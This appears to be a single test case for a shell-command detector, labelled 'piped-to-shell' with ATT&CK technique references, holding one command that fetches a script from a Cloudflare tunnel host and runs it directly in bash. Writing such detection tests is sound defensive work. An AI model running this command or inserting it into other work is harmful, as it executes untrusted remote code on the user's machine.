# expect: piped-to-shell | source: T1105, T1102
bash <(curl -fsSL https://look.trycloudflare.com/i)
